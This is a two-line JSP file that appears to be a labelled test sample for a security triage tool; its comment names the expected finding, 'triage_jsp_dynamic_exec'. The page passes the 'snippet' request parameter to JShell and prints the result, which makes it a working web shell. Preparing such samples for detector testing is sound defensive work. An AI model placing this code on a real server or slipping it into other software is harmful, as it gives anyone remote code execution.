<%-- triage-expect: triage_jsp_dynamic_exec --%>
<%= jdk.jshell.JShell.builder().build().eval(request.getParameter("snippet")).get(0).value() %>
